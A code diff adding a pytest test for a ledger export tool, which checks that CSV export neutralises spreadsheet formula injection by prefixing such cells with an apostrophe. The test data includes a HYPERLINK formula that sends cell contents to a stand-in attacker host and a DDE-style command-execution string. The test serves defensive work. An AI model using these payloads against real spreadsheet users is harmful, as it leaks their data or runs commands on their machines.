@@ -941,6 +941,36 @@ class TestExport:
         assert f"records.csv differs from what its proven records render to, at record {victim}" \
             in result.output  # fmt: skip
 
+    def test_csv_formula_cells_are_text(self, tmp_path: Path) -> None:
+        """A prompt is anyone's text: a readable cell a spreadsheet would run as a formula
+        starts with an apostrophe (OWASP's CSV-injection rule); the record column keeps the
+        exact text, and the package verifies."""
+        signer, key, pub = _keys(tmp_path)
+        root = tmp_path / "ledger"
+        texts = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3",
+                 "@SUM(1)", "plain"]  # fmt: skip
+        with Ledger.open(LedgerConfig(root, "log-0", signer)) as ledger:
+            for text in texts:
+                ledger.append(
+                    Exchange(
+                        model="m",
+                        api="sdk",
+                        stop_reason="stop",
+                        input_text=text,
+                        output_text=text,
+                        user_id="mallory",
+                    )
+                )
+        out = tmp_path / "m"
+        result = run("export", "--ledger", root, "--user", "mallory", "--format", "csv",
+                     "--out", out, "--key", key, "--public-key", pub)  # fmt: skip
+        assert result.exit_code == 0, result.output
+        rows = list(csv.reader(io.StringIO((out / "records.csv").read_text(), newline="")))
+        shown = {row[5] for row in rows[1:]}
+        assert {"'" + t for t in texts[:4]} | {"plain"} == shown
+        assert {json.loads(row[-1])["input_text"] for row in rows[1:]} == set(texts)
+        assert _verify(out, "--public-key", pub).exit_code == 0
+
     def test_zip_and_range(self, small: Ledgers, tmp_path: Path) -> None:
         """A .zip package with --since/--until holds only the range and verifies."""
         recs = sorted((r for r in records_of(small.root) if r["user_id"] == "user-2"),
